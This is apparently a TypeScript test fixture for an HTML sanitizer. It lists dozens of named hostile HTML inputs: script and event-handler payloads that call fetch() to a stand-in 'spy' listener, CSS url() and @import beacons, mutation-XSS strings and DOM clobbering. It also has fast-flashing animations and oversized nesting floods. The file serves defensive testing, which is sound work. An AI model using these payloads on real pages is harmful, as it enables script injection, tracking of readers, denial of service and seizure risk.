// Bulletins as an attacker would send them. `spy` stands for the address of somebody who listens.

const deep = (tag: string, times: number): string => `<${tag}>`.repeat(times);
const png = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
export const stillPicture = `data:image/png;base64,${png}`;

/** One vector each, by name. */
export function hostileBulletins(spy: string): Readonly<Record<string, string>> {
  const svgImage = `data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${spy}/svg"/></svg>`).toString('base64')}`;
  return {
    script: `<script>fetch("${spy}/script")</script><p>x`,
    'script in svg': `<svg><script>fetch("${spy}/svg-script")</script></svg>`,
    'script with a long s': `<ſcript>fetch("${spy}/s")</ſcript><\u212Aeygen>`,
    'event attribute': `<img src=x onerror="fetch('${spy}/onerror')"><body onload="fetch('${spy}/load')">`,
    'event attribute in svg': `<svg onload="fetch('${spy}/svg-load')"><animate onbegin="fetch('${spy}/begin')" attributeName=x></svg>`,
    image: `<img src="${spy}/img"><img srcset="${spy}/srcset 1x"><picture><source srcset="${spy}/source"></picture>`,
    'image element': `<image src="${spy}/image"><svg><image href="${spy}/svgimg"/><image xlink:href="${spy}/xlink"/></svg>`,
    'svg as image': `<img src="${svgImage}"><p style="background:url(${svgImage})">x</p>`,
    'svg use': `<svg><use href="${spy}/use#a"/><use href="data:image/svg+xml,<svg id=a onload=1>#a"/></svg>`,
    stylesheet: `<link rel=stylesheet href="${spy}/css"><link rel=preload as=image href="${spy}/preload"><link rel=dns-prefetch href="//a.example">`,
    import: `<style>@import "${spy}/import"; @import url(${spy}/import2); p{color:red}</style><p>x`,
    'css address': `<style>p{background:url(${spy}/bg);color:red} q{background:image-set("${spy}/set" 1x)} @font-face{font-family:a;src:url(${spy}/font)}</style><p style="font-family:a;list-style:url(${spy}/list)">x`,
    'css escapes': `<style>p{background:\\75 rl(${spy}/escape)} @\\69mport "${spy}/escape2";</style><p>x`,
    'css comments': `<style>p{background:u/**/rl(${spy}/c1);background:url/**/(${spy}/c2)} /* } @import "${spy}/c3"; */</style><p style="a:b;/*;*/background:url(${spy}/c4)">x`,
    'css var': `<style>:root{--a:url(${spy}/var)} p{background:var(--a);position:var(--p);--p:fixed}</style><p>x`,
    'css unclosed': `<style>p{content:"</style><img src=${spy}/unclosed>"} q{background:url(${spy}/open`,
    'css nesting': `<style>p{color:red;&:hover{background:url(${spy}/nest)}} @layer a{p{background:url(${spy}/layer)}} @media print{@import "${spy}/m";}</style><p>x`,
    'css namespace': `<style>@namespace url(${spy}/ns); @charset "utf-7"; @page{background:url(${spy}/page)} @property --x{syntax:"<url>";inherits:false;initial-value:url(${spy}/prop)}</style><p>x`,
    refresh: `<meta http-equiv=refresh content="0;url=${spy}/refresh"><p>x`,
    'policy and base': `<meta http-equiv=Content-Security-Policy content="default-src *"><base href="${spy}/"><img src="base">`,
    frames: `<iframe src="${spy}/frame"></iframe><iframe srcdoc="<script>fetch('${spy}/srcdoc')</script>"></iframe><frameset><frame src="${spy}/fs"></frameset>`,
    plugins: `<object data="${spy}/object"></object><embed src="${spy}/embed"><applet archive="${spy}/applet"></applet><portal src="${spy}/portal"></portal>`,
    media: `<video src="${spy}/video" poster="${spy}/poster" autoplay></video><audio src="${spy}/audio"></audio><video><track src="${spy}/track"></video>`,
    links: `<a href="javascript:fetch('${spy}/js')" ping="${spy}/ping">x</a><a href="${spy}/a">y</a><map><area href="${spy}/area"></map>`,
    form: `<form action="${spy}/form"><input type=image src="${spy}/input"><button formaction="${spy}/fa">x</button></form>`,
    'old attributes': `<body background="${spy}/body"><table background="${spy}/table"><td background="${spy}/td" dynsrc="${spy}/d" lowsrc="${spy}/l">x</table>`,
    manifest: `<html manifest="${spy}/manifest" xmlns:x="${spy}/xmlns"><p>x`,
    'noscript mutation': `<noscript><p title="</noscript><img src=x onerror=fetch('${spy}/noscript')>"></noscript>`,
    'template mutation': `<template><img src=x onerror=fetch('${spy}/tpl')></template><div><template shadowrootmode=open><img src=${spy}/shadow></template></div>`,
    'mutation math': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=fetch('${spy}/mglyph')&gt;">`,
    'mutation form': `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=fetch('${spy}/f') src>">`,
    'mutation svg style': `<svg></p><style><a id="</style><img src=1 onerror=fetch('${spy}/svgstyle')>">`,
    'mutation svg title': `<svg><title><style><a title="</style><img src onerror=fetch('${spy}/title')>"></style></title></svg>`,
    'mutation annotation': `<math><annotation-xml encoding="text/html"><style><img src onerror=fetch('${spy}/ann')></style></annotation-xml></math>`,
    'foreign object': `<svg><foreignObject><iframe src="${spy}/fo"></iframe><p onclick=1>x</p></foreignObject><desc><img src=${spy}/desc></desc></svg>`,
    'svg set': `<svg><a><set attributeName=href to="javascript:fetch('${spy}/set')"/><text y=1>x</text></a><animate attributeName=href values="${spy}/v"/></svg>`,
    'svg paint': `<svg><path d="M0 0" fill="url(${spy}/fill#a)" style="filter:url(${spy}/filter#a);mask:url(${spy}/mask)"/><style>path{fill:url(${spy}/sf)}</style></svg>`,
    'nested tables': `<table><svg><td><table><tr><p><style><img src=${spy}/t></style></table>`,
    'comment ends': `<!--><img src=${spy}/c1>--><!--[if IE]><script>1</script><![endif]--><!-- --!><img src=${spy}/c2><p>x`,
    'cdata and instructions': `<svg><![CDATA[<img src=${spy}/cd>]]></svg><?xml-stylesheet href="${spy}/pi"?><!ENTITY x SYSTEM "${spy}/e"><p>x`,
    'raw text elements': `<xmp><img src=${spy}/xmp></xmp><plaintext><img src=${spy}/plain>`,
    'text area': `<textarea><img src=${spy}/ta></textarea><title></title><img src=${spy}/t2></title><p>x`,
    'odd tags': `<img/src="${spy}/slash"/onerror=1><img\nsrc=${spy}/nl><p/onclick=1 =x "y" '<'>x<a<b></p foo="<img src=${spy}/close>">`,
    'odd bytes': `<p>a\0b\u0001\u202Ec\uFFFE\uD800d&#0;&#13;&#x80;</p><im\0g src=${spy}/nul><pre>\n\n x</pre>`,
    clobbering: `<p id=body class=__proto__>x</p><form id=attributes><input name=parentNode></form><img name=cookie src=${spy}/n>`,
    'sticky over all': `<div style="position:fixed;inset:0">x</div><div style="position:sticky;top:0">y</div>`,
    'fast flashing': `<style>@keyframes f{from{background:#fff}to{background:#000}} body{animation:f .1s infinite} .b{animation-name:f;animation-duration:50ms}</style><p class=b style="animation-duration:0.2s">x`,
    'flashing in steps': `<style>@keyframes f{0%{opacity:0}10%{opacity:1}20%{opacity:0}30%{opacity:1}40%{opacity:0}} p{animation:f 1s steps(40) infinite}</style><p>x`,
    'flashing in other spellings': `<style>@keyframes f{from{opacity:0}to{opacity:1}} p{animation:f 50MS infinite} q{animation:f 1e-2s infinite} b{animation:f .1S step-end infinite} i{animation:f.05s infinite}</style><p style="animation-duration:5E1ms">x`,
    'flashing in turn': `<style>@keyframes f{from{opacity:0}to{opacity:1}} div{animation:f 1s step-end infinite}</style>${Array.from({ length: 10 }, (_, at) => `<div style="position:absolute;inset:0;animation-delay:.${at}s">x</div>`).join('')}`,
    'moving picture': `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAACAkQBADs="><p>x`,
    'wrong picture': `<img src="data:image/png;base64,${Buffer.from('<svg onload=1>'.repeat(5)).toString('base64')}"><img src="data:text/html;base64,PGI+"><p>x`,
    'formatting soup': `<b><i><u>${'<b><i>'.repeat(20)}<p>x</b></i></u><table><b>y</table>`,
    'ruby, lists, tables': '<ruby>a<rt>b<rt>c</ruby><ul><li>a<li>b<p>c</ul><table><td>x<th>y<caption>z</table><dl><dt>a<dd>b</dl>',
    'entities everywhere':
      '<p title="&lt;img src=x onerror=1&gt;">&lt;script&gt;1&lt;/script&gt; &amp;lt; &nbsp; &ltimg &notit; &#x3c;script&#x3e;</p>',
    'nothing at all': '',
    'words alone': 'Họp thôn 19 giờ, nhà văn hóa',
  };
}

/** Too much of something: refused whole. */
export const floods: Readonly<Record<string, string>> = {
  'deep nesting': `${deep('div', 100_000)}x`,
  'deep formatting': deep('b', 50_000),
  'deep svg': `<svg>${deep('g', 100_000)}`,
  'many elements': '<p>x</p>'.repeat(100_000),
  'many attributes': `<p ${Array.from({ length: 100_000 }, (_, i) => `a${i}=1`).join(' ')}>x`,
  'many bytes': `<p>${'x'.repeat(2 * 1024 * 1024)}`,
};
